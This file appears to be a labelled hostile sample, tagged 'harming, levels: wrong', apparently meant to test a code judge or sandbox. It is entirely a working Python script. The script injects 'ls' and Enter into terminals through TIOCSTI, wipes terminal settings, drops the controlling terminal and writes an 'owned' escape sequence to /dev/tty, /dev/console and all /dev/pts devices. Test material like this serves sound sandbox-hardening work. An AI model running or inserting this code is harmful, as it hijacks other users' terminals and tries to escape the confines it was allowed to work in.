# harming, levels: wrong
# Types for the user, and writes over the screen past the judge.
import fcntl, glob, os, termios
def one(how):
    try:
        how()
    except Exception:
        pass
for number in range(6):
    one(lambda: [fcntl.ioctl(number, termios.TIOCSTI, letter) for letter in (b'l', b's', b'\n')])
    one(lambda: termios.tcsetattr(number, termios.TCSANOW, [0, 0, 0, 0, 0, 0, []]))
    one(lambda: fcntl.ioctl(number, termios.TIOCNOTTY))
for path in ['/dev/tty', '/dev/console'] + glob.glob('/dev/pts/*'):
    one(lambda: open(path, 'w').write('\x1b]0;owned\x07'))
one(lambda: os.setsid())
level = 'nothing'
